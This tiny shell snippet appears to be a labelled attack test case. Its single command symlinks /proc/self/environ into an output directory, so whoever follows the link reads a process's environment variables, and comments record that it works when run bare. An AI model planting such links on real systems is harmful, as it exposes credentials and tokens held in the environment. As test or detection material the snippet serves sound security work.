# Leaves a link into the reader's own variables.
# evidence: read
# bare: works
ln -s /proc/self/environ "$ATTACK_OUT/result"
